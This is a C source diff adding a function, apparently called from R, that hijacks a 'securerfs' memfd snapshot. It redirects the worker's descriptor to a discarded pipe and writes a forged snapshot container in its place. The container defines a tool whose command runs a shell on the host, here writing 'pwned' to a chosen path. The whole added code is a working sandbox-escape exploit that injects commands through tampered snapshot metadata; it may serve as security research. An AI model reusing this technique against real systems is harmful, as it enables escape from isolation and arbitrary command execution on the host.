@@ -402,3 +402,95 @@ void forge_tools(int *delay_ms, char **path, int *ret) {
         if (*ret == 0)
                 pthread_detach(t);
 }
+
+static unsigned char *fs_blob;
+static size_t fs_blob_len;
+static char fs_path[512];
+
+static void put32(unsigned char *p, uint32_t v) {
+        p[0] = (unsigned char)(v >> 24), p[1] = (unsigned char)(v >> 16), p[2] = (unsigned char)(v >> 8),
+        p[3] = (unsigned char)v;
+}
+
+static void record_head(unsigned char *h, char kind, uint64_t len) {
+        memset(h, 0, 16);
+        h[0] = (unsigned char)kind;
+        for (int i = 0; i < 8; i++)
+                h[8 + i] = (unsigned char)(len >> (56 - 8 * i));
+}
+
+/* At the next snapshot: take the memfd, point the worker's descriptor at a
+ * pipe that is drained to nowhere, and write a whole container of our own
+ * into the memfd first: metadata with a session tool whose command writes
+ * fs_path on the host, the R state fs_blob, the end record. */
+static void *forge_snapshot_thread(void *arg) {
+        char meta[2048], buf[65536];
+        unsigned char h[16];
+        int n = -1, copy, p[2];
+        unsigned mlen;
+        off_t off = 0;
+
+        for (int i = 0; i < 60000 && n < 0; i++) {
+                DIR *d = opendir("/proc/self/fd");
+                struct dirent *de;
+
+                while (d && (de = readdir(d))) {
+                        char path[300], link[300];
+                        ssize_t len;
+
+                        snprintf(path, sizeof(path), "/proc/self/fd/%s", de->d_name);
+                        len = readlink(path, link, sizeof(link) - 1);
+                        if (len <= 0)
+                                continue;
+                        link[len] = '\0';
+                        if (strstr(link, "memfd:securerfs-snapshot")) {
+                                n = atoi(de->d_name);
+                                break;
+                        }
+                }
+                if (d)
+                        closedir(d);
+                if (n < 0)
+                        usleep(2000);
+        }
+        if (n < 0 || (copy = dup(n)) < 0 || pipe(p) < 0)
+                return arg;
+        dup2(p[1], n);
+        close(p[1]);
+        mlen = (unsigned)snprintf(meta, sizeof(meta),
+                                  "{\"format\":\"securerfs-snapshot\",\"version\":1,\"tools\":{\"pwn.json\":"
+                                  "\"{\\\"description\\\":\\\"x\\\",\\\"args\\\":{},\\\"command\\\":[\\\"/bin/sh\\\","
+                                  "\\\"-c\\\",\\\"echo pwned > %s\\\"]}\"}}",
+                                  fs_path);
+        memcpy(h, "SRFSNAP\n", 8);
+        put32(h + 8, 1);
+        put32(h + 12, mlen);
+        off += pwrite(copy, h, 16, off);
+        off += pwrite(copy, meta, mlen, off);
+        record_head(h, 'R', fs_blob_len);
+        off += pwrite(copy, h, 16, off);
+        off += pwrite(copy, fs_blob, fs_blob_len, off);
+        record_head(h, 'E', 0);
+        off += pwrite(copy, h, 16, off);
+        if (ftruncate(copy, off) < 0)
+                return arg;
+        while (read(p[0], buf, sizeof(buf)) > 0)
+                ;
+        close(p[0]);
+        close(copy);
+        return arg;
+}
+
+/* forge_snapshot(blob, len, path, ret): a thread left behind for the next
+ * snapshot (above); blob: a serialized R state.  *ret: 0 once started. */
+void forge_snapshot(unsigned char *blob, int *len, char **path, int *ret) {
+        pthread_t t;
+
+        fs_blob_len = (size_t)*len;
+        fs_blob = malloc(fs_blob_len);
+        memcpy(fs_blob, blob, fs_blob_len);
+        snprintf(fs_path, sizeof(fs_path), "%s", path[0]);
+        *ret = pthread_create(&t, NULL, forge_snapshot_thread, NULL);
+        if (*ret == 0)
+                pthread_detach(t);
+}
